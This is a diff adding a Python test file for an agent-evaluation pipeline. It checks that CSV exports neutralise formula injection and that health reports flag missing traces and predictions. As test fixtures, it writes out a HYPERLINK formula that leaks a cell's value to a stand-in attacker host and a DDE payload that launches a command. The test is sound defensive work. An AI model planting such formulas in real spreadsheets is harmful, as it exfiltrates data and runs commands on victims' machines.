@@ -1,0 +1,79 @@
+"""The pipeline on hostile or incomplete runs: cells a spreadsheet would run, traces summary.json names but lacks."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+from pathlib import Path
+
+import orjson
+import pyarrow.parquet as pq
+
+from tests.dabench.example import EXAMPLE
+from tracegrade.dabench import EvalOptions, PipelineOptions, run_pipeline
+from tracegrade.runs import read_manifest
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+
+def copy_run(tmp_path: Path) -> Path:
+    runs = tmp_path / "runs"
+    shutil.copytree(EXAMPLE / "runs", runs)
+    return runs
+
+
+def evaluate(runs: Path, out: Path) -> None:
+    options = EvalOptions(run="demo-run", runs_root=runs, data_root=EXAMPLE / "data", output=out)
+    run_pipeline(options, PipelineOptions(figures=False))
+
+
+def cells(path: Path) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+
+
+def test_csv_files_neutralise_formulas_from_traces_and_predictions(tmp_path: Path) -> None:
+    runs = copy_run(tmp_path)
+    (runs / "demo-run/task_1/prediction.csv").write_text(f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n@SUM(1)\n')
+    summary = orjson.loads((runs / "demo-run/summary.json").read_bytes())
+    summary["tasks"][2]["failure_reason"] = "=cmd|' /C calc'!A0"
+    (runs / "demo-run/summary.json").write_bytes(orjson.dumps(summary))
+    trace = orjson.loads((runs / "demo-run/task_2/trace.json").read_bytes())
+    for step in trace["steps"]:
+        step["action"] = "@" + step["action"]
+    (runs / "demo-run/task_2/trace.json").write_bytes(orjson.dumps(trace))
+    evaluate(runs, tmp_path / "out")
+    out = tmp_path / "out"
+    assert cells(out / "task_1/answer.csv") == [["'" + HYPERLINK], ["'@SUM(1)"]]
+    rows = cells(out / "task_metrics.csv")
+    assert "'=cmd|' /C calc'!A0" in [row[rows[0].index("failure_reason")] for row in rows[1:]]
+    exact = pq.read_table(out / "task_metrics.parquet").column("failure_reason").to_pylist()
+    assert "=cmd|' /C calc'!A0" in exact  # the Parquet tables keep the exact text
+    rows = cells(out / "trajectory.csv")
+    actions = [row[rows[0].index("action")] for row in rows[1:]]
+    assert "'@coordinate" in actions
+    assert "@coordinate" in pq.read_table(out / "trajectory.parquet").column("action").to_pylist()
+    for path in out.rglob("*.csv"):
+        for row in cells(path):
+            assert not [c for c in row if c[:1] and c[0] in "=@\t\r"], (path, row)
+
+
+def test_traces_and_predictions_summary_json_names_but_lacks_lower_harness_health(tmp_path: Path) -> None:
+    runs = copy_run(tmp_path)
+    for name in ("task_2/trace.json", "task_2/trace_r2.json", "task_1/prediction.csv"):
+        (runs / "demo-run" / name).unlink()
+    evaluate(runs, tmp_path / "out")
+    out = tmp_path / "out"
+    rec = orjson.loads((out / "artifact_reconciliation_report.json").read_bytes())
+    errors = [(f["task_id"], f["check"]) for f in rec["findings"] if f["severity"] == "error"]
+    assert ("task_2", "summary_trace_present") in errors and ("task_1", "summary_prediction_present") in errors
+    assert rec["tasks_passed"] < 3
+    health = orjson.loads((out / "engineering_health_report.json").read_bytes())
+    assert health["harness"]["status"] != "HEALTHY" and health["harness"]["score"] < 9
+    assert health["evaluated_from"] == {
+        "tasks": 3, "with_trace": 2, "with_prediction": 1, "named_traces_missing": 1, "named_predictions_missing": 1,
+    }
+    text = (out / "engineering_health_report.txt").read_text()
+    assert "3 tasks evaluated: 2 from a trace, 1 with a prediction.csv; missing though summary.json names them: " \
+        "1 traces, 1 predictions" in text
+    assert read_manifest(out)["metadata"]["named_files_missing"] == {"prediction.csv": ["task_1"], "trace": ["task_2"]}
